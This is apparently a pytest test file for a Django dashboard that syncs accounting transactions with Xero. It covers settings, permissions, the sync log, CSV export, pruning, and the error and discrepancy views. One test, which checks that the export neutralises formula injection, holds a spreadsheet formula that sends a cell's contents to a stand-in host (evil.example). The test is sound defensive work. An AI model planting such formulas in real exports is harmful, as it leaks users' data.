"""The dashboard's Admin tab: settings and account mapping, the sync log, the Errors view and
the Discrepancies view, as each kind of user sees them (no call to Xero here)."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import connection as db
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from sync.dashboard import admin_tab as sync_views
from sync.models import (
    AccountMapping,
    InvalidReason,
    LinkStatus,
    SyncItem,
    SyncRun,
    SyncSettings,
    UploadRow,
)
from tests.factories import (
    AccountMappingFactory,
    ChartAccountFactory,
    ContactFactory,
    ContactLinkFactory,
    LineItemFactory,
    MirroredDocumentFactory,
    SupplierFactory,
    SyncItemFactory,
    SyncRunFactory,
    TaxRateFactory,
    TransactionFactory,
    UploadRowFactory,
    UserFactory,
    XeroConnectionFactory,
)
from transactions.models import SyncState, TransactionType

pytestmark = pytest.mark.django_db

ADMIN_TAB = reverse("sync:admin_tab")
SAVE = reverse("sync:admin_settings_save")
LOG = reverse("sync:sync_log")
EXPORT = reverse("sync:sync_log_export")
PRUNE = reverse("sync:sync_log_prune")
ERRORS = reverse("sync:errors")
DISCREPANCIES = reverse("sync:discrepancies")


@pytest.fixture
def connection():
    """The organisation shown (connected last)."""
    return XeroConnectionFactory(
        organisation_name="Demo Company (NZ)", connected_at=timezone.now() + timedelta(days=1)
    )


@pytest.fixture
def chart(connection):
    """The organisation's accounts and tax rates, as fetched from Xero."""
    return {
        "sales": ChartAccountFactory(connection=connection, code="200", name="Sales"),
        "other": ChartAccountFactory(connection=connection, code="260", name="Other Revenue"),
        "old": ChartAccountFactory(
            connection=connection, code="210", name="Old Sales", status="ARCHIVED"
        ),
        "gst": TaxRateFactory(connection=connection, tax_type="OUTPUT2", name="GST on Income"),
        "none": TaxRateFactory(connection=connection, tax_type="NONE", name="No GST", rate=0),
        "gone": TaxRateFactory(
            connection=connection, tax_type="OLDTAX", name="Old rate", status="DELETED"
        ),
    }


def settings_data(**changes):
    """The settings form as the page posts it: every type's mapping blank unless given."""
    data = {"document_status": "DRAFT", "autosync": "off"}
    for value in TransactionType.values:
        data[f"{value}-account_code"] = ""
        data[f"{value}-tax_type"] = ""
    return data | changes


def mapping_row(html, transaction_type):
    match = re.search(rf'<tr id="mapping-{transaction_type}">.*?</tr>', html, re.S)
    assert match, transaction_type
    return match.group(0)


# --- Who may see and change --------------------------------------------------------------------


def test_outsiders_see_none_of_the_admin_pages(client, outsider, connection):
    client.force_login(outsider)
    run = SyncRunFactory(connection=connection)
    for url in [ADMIN_TAB, LOG, reverse("sync:sync_run", args=[run.pk]), EXPORT, ERRORS]:
        assert client.get(url).status_code == 403, url
    assert client.get(DISCREPANCIES).status_code == 403


@pytest.mark.parametrize("who", ["viewer_client", "accountant_client"])
def test_only_admins_change_the_settings(request, who, connection, chart):
    client = request.getfixturevalue(who)
    page = client.get(ADMIN_TAB).content.decode()
    assert "Only admins can change these settings" in page
    assert "Save settings" not in page
    assert re.search(r'<select name="document_status"[^>]*disabled', page)
    assert 'name="sales_invoice-account_code"' in page and "disabled" in mapping_row(
        page, "sales_invoice"
    )

    data = settings_data(document_status="AUTHORISED", **{"sales_invoice-account_code": "260"})
    assert client.post(SAVE, data).status_code == 403
    assert SyncSettings.for_connection(connection).document_status == "DRAFT"
    assert not AccountMapping.objects.exists()


def test_an_admin_saves_the_document_status_the_schedule_and_a_mapping(
    admin_client, connection, chart
):
    data = settings_data(
        document_status="AUTHORISED",
        autosync="hourly",
        **{"sales_invoice-account_code": "260", "sales_invoice-tax_type": "NONE"},
    )
    response = admin_client.post(SAVE, data, follow=True)

    assert "Saved the sync settings and the account mapping." in response.content.decode()
    settings = SyncSettings.for_connection(connection)
    assert (settings.document_status, settings.autosync) == ("AUTHORISED", "hourly")
    mapping = AccountMapping.objects.get(connection=connection)
    assert (mapping.transaction_type, mapping.account_code, mapping.tax_type) == (
        "sales_invoice",
        "260",
        "NONE",
    )
    # Shown again as saved.
    row = mapping_row(response.content.decode(), "sales_invoice")
    assert 'value="260"' in row and 'value="NONE"' in row

    # Cleared, the mapping goes: lines keep their own codes.
    admin_client.post(SAVE, settings_data(document_status="AUTHORISED"))
    assert not AccountMapping.objects.exists()


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("account_code", "999", "Account code &#x27;999&#x27; is not in the organisation"),
        ("account_code", "210", "Account 210 Old Sales is archived in Xero"),
        ("tax_type", "ZERO", "Tax type &#x27;ZERO&#x27; is not one of the organisation"),
        ("tax_type", "OLDTAX", "Tax rate Old rate (OLDTAX) is not active in Xero"),
    ],
)
def test_a_mapping_xero_would_refuse_is_not_saved_and_says_why_on_its_field(
    admin_client, connection, chart, field, value, message
):
    data = settings_data(document_status="AUTHORISED", **{f"bills-{field}": value})
    data[f"supplier_invoice-{field}"] = value

    response = admin_client.post(SAVE, data)

    html = response.content.decode()
    assert "Nothing was saved: correct the fields marked below." in html
    assert message in mapping_row(html, "supplier_invoice")
    assert message not in mapping_row(html, "sales_invoice")
    assert not AccountMapping.objects.exists()
    assert SyncSettings.for_connection(connection).document_status == "DRAFT"


def test_before_the_accounts_are_fetched_a_mapping_says_to_fetch_them(admin_client, connection):
    response = admin_client.post(SAVE, settings_data(**{"sales_invoice-account_code": "200"}))
    assert "fetch the accounts and tax rates from Xero first" in response.content.decode()


def test_a_mapping_gone_bad_in_xero_since_is_shown_on_its_row(viewer_client, connection, chart):
    AccountMappingFactory(connection=connection, account_code="200")
    chart["sales"].status = "ARCHIVED"
    chart["sales"].save()

    html = viewer_client.get(ADMIN_TAB).content.decode()

    assert "Account 200 Sales is archived in Xero" in mapping_row(html, "sales_invoice")
    assert "archived" not in mapping_row(html, "sales_credit_note")


def test_the_admin_tab_lists_the_accounts_and_tax_rates(viewer_client, connection, chart):
    SyncSettings.objects.create(connection=connection, settings_refreshed_at=timezone.now())
    html = viewer_client.get(ADMIN_TAB).content.decode()
    accounts = html[html.index('id="accounts"') : html.index('id="tax-rates"')]
    assert "Other Revenue" in accounts and "Archived" in accounts
    rates = html[html.index('id="tax-rates"') :]
    assert "GST on Income" in rates and "15%" in rates and "Deleted" in rates
    assert "Fetched " in html and "Not fetched from Xero yet" not in html


def test_the_fetch_button_is_for_those_who_act(client, viewer, accountant, connection):
    client.force_login(viewer)
    assert "Fetch from Xero</button>" not in client.get(ADMIN_TAB).content.decode()
    assert client.post(reverse("sync:admin_fetch")).status_code == 403
    client.force_login(accountant)
    assert "Fetch from Xero</button>" in client.get(ADMIN_TAB).content.decode()


def test_without_a_connection_the_pages_say_to_connect(viewer_client):
    for url in [ADMIN_TAB, LOG, DISCREPANCIES]:
        assert "Connect to Xero first" in viewer_client.get(url).content.decode(), url


# --- The sync log ------------------------------------------------------------------------------


def run_with(connection, *states, **fields):
    run = SyncRunFactory(connection=connection, **fields)
    for state in states:
        SyncItemFactory(run=run, state=state)
    return run


def test_the_log_lists_each_run_with_its_counts(viewer_client, connection):
    ada = UserFactory(username="ada2", first_name="Ada", last_name="Lovelace")
    run = run_with(
        connection,
        SyncItem.State.SYNCED,
        SyncItem.State.SYNCED,
        SyncItem.State.REFUSED,
        SyncItem.State.FAILED,
        created_by=ada,
        api_calls=7,
        rate_limited=1,
        detail="Xero's per-minute call limit was reached.",
    )
    run_with(XeroConnectionFactory(), SyncItem.State.SYNCED)  # another organisation's

    html = viewer_client.get(LOG).content.decode()

    row = re.search(rf'<tr id="run-{run.pk}">.*?</tr>', html, re.S).group(0)
    cells = re.findall(r'<td class="num" data-label="[^"]+">(\d+)</td>', row)
    assert cells == ["2", "1", "1", "0", "7", "1"]  # synced refused failed skipped calls 429s
    assert "Ada Lovelace" in row and "Dashboard" in row and "Finished" in row
    assert "per-minute call limit" in row
    assert html.count('<tr id="run-') == 1


def test_the_log_filters_by_state_trigger_and_date(viewer_client, connection):
    old = run_with(connection, trigger=SyncRun.Trigger.SCHEDULE)
    SyncRun.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=10))
    stopped = run_with(connection, state=SyncRun.State.STOPPED)
    today = timezone.localdate()

    def listed(**params):
        html = viewer_client.get(LOG, params).content.decode()
        return {int(pk) for pk in re.findall(r'<tr id="run-(\d+)">', html)}

    assert listed() == {old.pk, stopped.pk}
    assert listed(state="stopped") == {stopped.pk}
    assert listed(trigger="schedule") == {old.pk}
    assert listed(since=today.isoformat()) == {stopped.pk}
    assert listed(until=(today - timedelta(days=5)).isoformat()) == {old.pk}
    assert (
        "No sync runs match these filters."
        in viewer_client.get(LOG, {"state": "waiting"}).content.decode()
    )


def test_the_log_is_paged(viewer_client, connection, monkeypatch):
    monkeypatch.setattr(sync_views, "PAGE_SIZE", 2)
    for _ in range(5):
        run_with(connection)
    html = viewer_client.get(LOG).content.decode()
    assert html.count('<tr id="run-') == 2 and "Page 1 of 3 · 5 in all" in html
    assert viewer_client.get(LOG, {"page": 3}).content.decode().count('<tr id="run-') == 1


def test_a_runs_page_lists_its_transactions_with_their_outcomes(viewer_client, connection):
    run = SyncRunFactory(connection=connection)
    sent = SyncItemFactory(
        run=run,
        transaction=TransactionFactory(number="INV-0101", contact=ContactFactory(name="Tui Books")),
        xero_number="INV-0101",
        xero_id="3f0c9f6e-8a51-4a43-9d1b-2e2b6f0f5a10",
    )
    refused = SyncItemFactory(
        run=run,
        state=SyncItem.State.REFUSED,
        refusal=SyncItem.Refusal.UNLINKED,
        message="Bayview Cafe isn't linked to a Xero contact.",
    )
    url = reverse("sync:sync_run", args=[run.pk])

    html = viewer_client.get(url).content.decode()

    sent_row = re.search(rf'<tr id="item-{sent.pk}">.*?</tr>', html, re.S).group(0)
    assert "INV-0101" in sent_row and "Tui Books" in sent_row and "Synced" in sent_row
    assert "3f0c9f6e-8a51-4a43-9d1b-2e2b6f0f5a10" in sent_row
    refused_row = re.search(rf'<tr id="item-{refused.pk}">.*?</tr>', html, re.S).group(0)
    assert "Contact not linked" in refused_row
    assert "Bayview Cafe isn&#x27;t linked to a Xero contact." in refused_row
    contact = refused.transaction.contact
    assert f'#contact-{contact.pk}" class="fix-link">Link {contact.name} on Sales' in refused_row
    assert "1 synced · 1 refused · 0 failed" in html

    only_refused = viewer_client.get(url, {"outcome": "refused"}).content.decode()
    assert f'id="item-{refused.pk}"' in only_refused and f'id="item-{sent.pk}"' not in only_refused


def test_another_organisations_run_is_not_found(viewer_client, connection):
    other = SyncRunFactory()
    assert viewer_client.get(reverse("sync:sync_run", args=[other.pk])).status_code == 404


def read_csv(response):
    assert response.streaming  # a big log is never built in memory
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_the_items_export_as_csv_for_one_run_or_the_filtered_log(viewer_client, connection):
    first = run_with(connection, SyncItem.State.SYNCED, SyncItem.State.FAILED)
    second = run_with(connection, SyncItem.State.REFUSED, trigger=SyncRun.Trigger.SCHEDULE)
    SyncItem.objects.filter(state=SyncItem.State.FAILED).update(
        message="Xero refused it: Invoice # must be unique."
    )

    everything = read_csv(viewer_client.get(EXPORT))
    assert len(everything) == 3
    assert {r["run"] for r in everything} == {str(first.pk), str(second.pk)}

    one_run = viewer_client.get(EXPORT, {"run": first.pk})
    assert f'sync-log-run-{first.pk}.csv"' in one_run["Content-Disposition"]
    rows = read_csv(one_run)
    assert sorted(r["outcome"] for r in rows) == ["Failed", "Synced"]
    failed = next(r for r in rows if r["outcome"] == "Failed")
    assert failed["message"] == "Xero refused it: Invoice # must be unique."
    assert failed["transaction number"] and failed["contact"]

    scheduled = read_csv(viewer_client.get(EXPORT, {"trigger": "schedule"}))
    assert [r["run"] for r in scheduled] == [str(second.pk)]
    failures = read_csv(viewer_client.get(EXPORT, {"outcome": "failed"}))
    assert [r["outcome"] for r in failures] == ["Failed"]


def test_the_log_export_opens_hostile_names_and_xero_messages_as_text(viewer_client, connection):
    run = run_with(connection)
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'
    item = SyncItemFactory(
        run=run,
        state=SyncItem.State.FAILED,
        transaction=TransactionFactory(contact__name=hyperlink, number="-1+1"),
        # Xero's messages echo what it was sent, the contact's name too.
        message=f"@SUM(1) {hyperlink} is archived in Xero.",
        xero_number="+INV-1",
    )

    (row,) = read_csv(viewer_client.get(EXPORT))

    assert row["contact"] == "'" + hyperlink
    assert row["transaction number"] == "'-1+1"
    assert row["message"] == f"'@SUM(1) {hyperlink} is archived in Xero."
    assert row["Xero number"] == "'+INV-1"
    # The app's own values are written as they are.
    assert row["run"] == str(run.pk) and row["outcome"] == "Failed"
    assert row["updated"] == timezone.localtime(item.updated_at).isoformat(timespec="seconds")


# --- Pruning -----------------------------------------------------------------------------------


def finished(connection, days_ago, state=SyncRun.State.DONE):
    run = run_with(connection, SyncItem.State.SYNCED, state=state)
    when = timezone.now() - timedelta(days=days_ago)
    SyncRun.objects.filter(pk=run.pk).update(finished_at=when, created_at=when)
    return run


def test_an_admin_prunes_old_runs_after_confirming(admin_client, connection):
    old, recent = finished(connection, 40), finished(connection, 2)
    running = finished(connection, 60, state=SyncRun.State.RUNNING)  # never deleted
    before = (timezone.localdate() - timedelta(days=30)).isoformat()

    confirm = admin_client.get(PRUNE, {"before": before}).content.decode()
    assert "This deletes <strong>1 sync run</strong>" in confirm
    assert SyncRun.objects.count() == 3  # asking deletes nothing

    response = admin_client.post(PRUNE, {"before": before}, follow=True)

    assert "Deleted 1 sync run finished before" in response.content.decode()
    assert set(SyncRun.objects.values_list("pk", flat=True)) == {recent.pk, running.pk}
    assert not SyncItem.objects.filter(run_id=old.pk).exists()


def test_only_admins_prune(accountant_client, connection):
    finished(connection, 40)
    before = timezone.localdate().isoformat()
    assert "Prune the sync log" not in accountant_client.get(LOG).content.decode()
    assert accountant_client.get(PRUNE, {"before": before}).status_code == 403
    assert accountant_client.post(PRUNE, {"before": before}).status_code == 403
    assert SyncRun.objects.count() == 1


def test_prune_without_a_date_deletes_nothing_and_says_why(admin_client, connection):
    finished(connection, 40)
    response = admin_client.post(PRUNE, {"before": ""}, follow=True)
    assert "Give the date" in response.content.decode()
    assert SyncRun.objects.count() == 1


# --- Errors ------------------------------------------------------------------------------------


def refused(contact, run, refusal, message, **fields):
    """A transaction the run refused, with the reason."""
    txn = TransactionFactory(contact=contact, sync_state=SyncState.REFUSED, **fields)
    LineItemFactory(transaction=txn)
    SyncItemFactory(
        run=run, transaction=txn, state=SyncItem.State.REFUSED, refusal=refusal, message=message
    )
    return txn


def problem_row(html, txn):
    match = re.search(rf'<tr id="problem-transaction-{txn.pk}">.*?</tr>', html, re.S)
    assert match, txn.number
    return match.group(0)


def test_errors_lists_refused_and_failed_transactions_grouped_by_contact(viewer_client, connection):
    kea = ContactFactory(name="Kea Outfitters")
    unlinked = refused(
        kea,
        SyncRunFactory(connection=connection),
        SyncItem.Refusal.UNLINKED,
        "Kea Outfitters isn't linked to a Xero contact.",
        number="INV-0201",
    )
    bad_account = refused(
        kea,
        SyncRunFactory(connection=connection),
        SyncItem.Refusal.ACCOUNT,
        "Account code '999' is not in the chart.",
    )
    supplier = SupplierFactory(name="Aroha Supplies")
    failed = TransactionFactory(
        contact=supplier,
        type=TransactionType.SUPPLIER_INVOICE,
        sync_state=SyncState.FAILED,
        last_error="Xero refused it: Invoice # must be unique.",
    )
    TransactionFactory(
        contact=ContactFactory(name="Quiet Ltd"),
        sync_state=SyncState.SYNCED,
        xero_id="0b6c3a1e-5d2f-4c1a-9e8b-7a6d5c4b3a21",
    )

    html = viewer_client.get(ERRORS).content.decode()

    assert html.index("Aroha Supplies") < html.index("Kea Outfitters")
    assert "Quiet Ltd" not in html
    kea_section = html[html.index(f'id="problems-{kea.pk}"') :]
    assert f'id="problem-transaction-{unlinked.pk}"' in kea_section
    row = problem_row(html, unlinked)
    assert "Contact not linked" in row and "isn&#x27;t linked to a Xero contact" in row
    assert f"#contact-{kea.pk}" in row
    assert "Fix the link on Sales \N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK} Customers" in row
    account_row = problem_row(html, bad_account)
    assert f'href="{ADMIN_TAB}#mapping"' in account_row and "Account code" in account_row
    failed_row = problem_row(html, failed)
    assert "Invoice # must be unique." in failed_row and "Failed" in failed_row
    assert "/purchases/bills/" in failed_row


def test_errors_lists_invalid_links_and_failed_uploads(viewer_client, connection):
    link = ContactLinkFactory(
        contact=ContactFactory(name="Moa Motors"),
        connection=connection,
        xero_name="Moa Motors Ltd",
        status=LinkStatus.INVALID,
        invalid_reason=InvalidReason.ARCHIVED,
    )
    upload = UploadRowFactory(
        job__connection=connection,
        contact=ContactFactory(name="Huia Hats"),
        state=UploadRow.State.FAILED,
        message="Xero refused it: The contact name Huia Hats is already assigned.",
    )
    ruru = ContactFactory(name="Ruru Rugs")
    # Failed, then uploaded fine: nothing to fix.
    UploadRowFactory(job__connection=connection, contact=ruru, state=UploadRow.State.FAILED)
    UploadRowFactory(job__connection=connection, contact=ruru, state=UploadRow.State.DONE)

    html = viewer_client.get(ERRORS).content.decode()

    invalid = html[html.index(f'id="invalid-link-{link.contact.pk}"') :]
    assert "Moa Motors Ltd is archived in Xero. Restore it in Xero" in invalid
    failed = html[html.index(f'id="failed-upload-{upload.contact.pk}"') :]
    assert "already assigned" in failed
    assert "Ruru Rugs" not in html


def test_with_nothing_to_fix_errors_says_so(viewer_client, connection):
    assert "Nothing to fix" in viewer_client.get(ERRORS).content.decode()


def test_resync_queues_a_run_of_the_contacts_refused_transactions(
    accountant_client, accountant, connection, chart
):
    kea = ContactFactory(name="Kea Outfitters")
    ContactLinkFactory(contact=kea, connection=connection)  # linked since they were refused
    first = refused(
        kea, SyncRunFactory(connection=connection), SyncItem.Refusal.UNLINKED, "not linked"
    )
    second = refused(
        kea, SyncRunFactory(connection=connection), SyncItem.Refusal.UNLINKED, "not linked"
    )
    refused(
        ContactFactory(name="Other Ltd"),
        SyncRunFactory(connection=connection),
        SyncItem.Refusal.UNLINKED,
        "no",
    )
    assert "Re-sync 2 refused" in accountant_client.get(ERRORS).content.decode()

    response = accountant_client.post(reverse("sync:errors_resync", args=[kea.pk]), follow=True)

    assert "Syncing 2 transactions again" in response.content.decode()
    run = SyncRun.objects.latest("pk")
    assert run.created_by == accountant and run.state == SyncRun.State.QUEUED
    assert set(run.items.values_list("transaction_id", flat=True)) == {first.pk, second.pk}


def test_viewers_cannot_resync(viewer_client, connection):
    kea = ContactFactory(name="Kea Outfitters")
    refused(kea, SyncRunFactory(connection=connection), SyncItem.Refusal.UNLINKED, "not linked")
    assert "Re-sync" not in viewer_client.get(ERRORS).content.decode()
    runs_before = SyncRun.objects.count()
    assert viewer_client.post(reverse("sync:errors_resync", args=[kea.pk])).status_code == 403
    assert SyncRun.objects.count() == runs_before


def test_every_dashboard_page_links_to_errors_with_their_count(viewer_client, connection):
    customers = reverse("sync:subtab", kwargs={"tab": "sales", "subtab": "customers"})
    html = viewer_client.get(customers).content.decode()
    assert f'href="{ERRORS}"' in html and "to fix" not in html

    refused(
        ContactFactory(),
        SyncRunFactory(connection=connection),
        SyncItem.Refusal.UNLINKED,
        "not linked",
    )
    ContactLinkFactory(
        connection=connection, status=LinkStatus.INVALID, invalid_reason=InvalidReason.DELETED
    )

    html = viewer_client.get(customers).content.decode()
    assert re.search(rf'href="{ERRORS}"[^>]*>Errors <span class="badge bad"[^>]*>2</span>', html)
    for name in ["Admin", "Settings", "Sync log", "Discrepancies"]:
        assert name in viewer_client.get(ADMIN_TAB).content.decode()


# --- Discrepancies -----------------------------------------------------------------------------


def synced(connection, status="AUTHORISED", xero_total=None, **document):
    mirrored = MirroredDocumentFactory(connection=connection, status=status, **document)
    txn = TransactionFactory(
        sync_state=SyncState.SYNCED, number=mirrored.number, xero_id=mirrored.document_id
    )
    LineItemFactory(transaction=txn, quantity=Decimal("1"), unit_price=Decimal("100"))
    mirrored.total = txn.totals.total if xero_total is None else xero_total
    mirrored.save()
    return txn


def test_discrepancies_lists_voided_deleted_edited_and_paid_documents(viewer_client, connection):
    same = synced(connection)
    voided = synced(connection, "VOIDED")
    deleted = synced(connection, "DELETED")
    paid = synced(connection, "PAID", amount_paid=Decimal("115"))
    part_paid = synced(connection, "SUBMITTED", amount_paid=Decimal("15"))
    edited = synced(connection, "DRAFT", xero_total=Decimal("230.00"))
    SyncSettings.objects.create(connection=connection, documents_checked_at=timezone.now())

    html = viewer_client.get(DISCREPANCIES).content.decode()

    def row(txn):
        return re.search(rf'<tr id="discrepancy-{txn.pk}">.*?</tr>', html, re.S).group(0)

    assert f'id="discrepancy-{same.pk}"' not in html
    assert "Voided in Xero" in row(voided) and "Deleted in Xero" in row(deleted)
    assert "Paid in Xero, not in Omni" in row(paid) and "Xero NZD 115.00; in Omni 0.00" in row(paid)
    assert "Paid in Xero NZD 15.00; in Omni 0.00" in row(part_paid)
    assert "Edited in Xero" in row(edited)
    assert "NZD 115.00" in row(edited) and "NZD 230.00" in row(edited)
    assert "Xero's documents last fetched" in html


def test_discrepancies_before_any_refresh_asks_for_one(viewer_client, connection):
    html = viewer_client.get(DISCREPANCIES).content.decode()
    assert "Refresh from Xero to compare every synced transaction." in html
    assert "only those Xero's webhooks and omni-xero's own syncs brought" in html
    assert "Refresh from Xero</button>" not in html  # viewers do not refresh


# --- In Django admin ---------------------------------------------------------------------------


def test_the_admin_prune_action_asks_then_deletes_finished_runs_only(admin_client, connection):
    old = finished(connection, 40)
    running = finished(connection, 60, state=SyncRun.State.RUNNING)
    changelist = reverse("admin:sync_syncrun_changelist")
    chosen = {"action": "prune", "_selected_action": [old.pk, running.pk]}

    confirm = admin_client.post(changelist, chosen)

    assert "This deletes <strong>1 finished sync run</strong>" in confirm.content.decode()
    assert "1 run still under way is kept" in confirm.content.decode()
    assert SyncRun.objects.count() == 2

    admin_client.post(changelist, chosen | {"confirmed": "yes"})

    assert list(SyncRun.objects.values_list("pk", flat=True)) == [running.pk]
    assert not SyncItem.objects.filter(run_id=old.pk).exists()


def test_the_admin_run_page_shows_its_items_read_only(admin_client, connection):
    run = run_with(connection, SyncItem.State.FAILED)
    SyncItem.objects.update(message="Xero refused it: Invoice # must be unique.")
    html = admin_client.get(reverse("admin:sync_syncrun_change", args=[run.pk])).content.decode()
    assert "Invoice # must be unique." in html
    assert 'name="items-0-message"' not in html  # shown, not editable


def test_an_account_mapping_in_django_admin_is_checked_against_the_accounts(
    admin_client, connection, chart
):
    add = reverse("admin:sync_accountmapping_add")
    data = {
        "connection": connection.pk,
        "transaction_type": "sales_invoice",
        "account_code": "210",
        "tax_type": "OUTPUT2",
    }
    response = admin_client.post(add, data)
    assert "Account 210 Old Sales is archived in Xero" in response.content.decode()
    assert not AccountMapping.objects.exists()
    admin_client.post(add, data | {"account_code": "260"})
    assert AccountMapping.objects.get().account_code == "260"


# --- Query counts ------------------------------------------------------------------------------


def queries(client, url):
    with CaptureQueriesContext(db) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


@pytest.mark.parametrize("url", [LOG, ERRORS, DISCREPANCIES])
def test_the_admin_lists_cost_the_same_queries_for_more_rows(viewer_client, connection, url):
    SyncSettings.for_connection(connection)  # made on a first visit otherwise

    def more():
        run = run_with(connection, SyncItem.State.SYNCED)
        refused(ContactFactory(), run, SyncItem.Refusal.UNLINKED, "not linked")
        refused(ContactFactory(), run, SyncItem.Refusal.TAX, "tax")
        ContactLinkFactory(
            connection=connection, status=LinkStatus.INVALID, invalid_reason=InvalidReason.GDPR
        )
        synced(connection, "VOIDED", number=f"INV-V{run.pk}")

    more()
    few = queries(viewer_client, url)
    for _ in range(4):
        more()
    assert queries(viewer_client, url) == few


def test_an_account_mapping_emptied_in_django_admin_is_removed_as_on_the_admin_tab(
    admin_client, connection, chart
):
    """As on the Admin tab, a mapping with neither code is no mapping: the lines go with
    their own codes, and the type's row no longer lists an empty mapping."""
    mapping = AccountMapping.objects.create(
        connection=connection, transaction_type="sales_invoice", account_code="260"
    )
    change = reverse("admin:sync_accountmapping_change", args=[mapping.pk])
    data = {"connection": connection.pk, "transaction_type": "sales_invoice"}
    response = admin_client.post(change, data | {"account_code": "", "tax_type": ""})
    assert response.status_code == 302
    assert not AccountMapping.objects.exists()


def test_a_resync_with_nothing_to_send_writes_no_run_and_says_so(
    accountant_client, connection, chart
):
    kea = ContactFactory(name="Kea Outfitters")
    ContactLinkFactory(contact=kea, connection=connection)
    txn = refused(
        kea, SyncRunFactory(connection=connection), SyncItem.Refusal.UNLINKED, "not linked"
    )
    waiting = SyncRunFactory(connection=connection)  # the transaction waits in it already
    SyncItemFactory(run=waiting, transaction=txn, state=SyncItem.State.QUEUED)
    before = SyncRun.objects.count()

    response = accountant_client.post(reverse("sync:errors_resync", args=[kea.pk]), follow=True)

    assert "Nothing to send" in response.content.decode()
    assert SyncRun.objects.count() == before


def test_a_resync_offer_with_nothing_left_writes_no_run_and_says_so(accountant_client, connection):
    response = accountant_client.post(reverse("sync:resync_refused"), follow=True)

    assert "Nothing to upload" in response.content.decode()
    assert not SyncRun.objects.exists()
